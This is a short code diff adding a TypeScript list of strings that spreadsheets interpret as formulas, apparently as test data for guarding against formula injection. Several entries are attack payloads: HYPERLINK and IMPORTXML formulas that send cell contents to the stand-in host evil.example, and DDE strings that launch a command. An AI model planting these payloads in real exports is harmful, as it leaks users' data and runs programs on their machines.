@@ -1,0 +1,15 @@
+/** Texts that spreadsheets take for formulas when they stand in a cell unmarked. */
+export const FORMULAS: readonly string[] = [
+  '=1+1',
+  '=HYPERLINK("http://evil.example?x="&A1,"Click")',
+  "=cmd|' /C calc'!A0",
+  '+1+1',
+  '-1+1',
+  '-2+3+cmd|calc',
+  '@SUM(A1:A9)',
+  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
+  '＝1+1',
+  '＋1',
+  '－1',
+  '＠SUM(1)',
+];
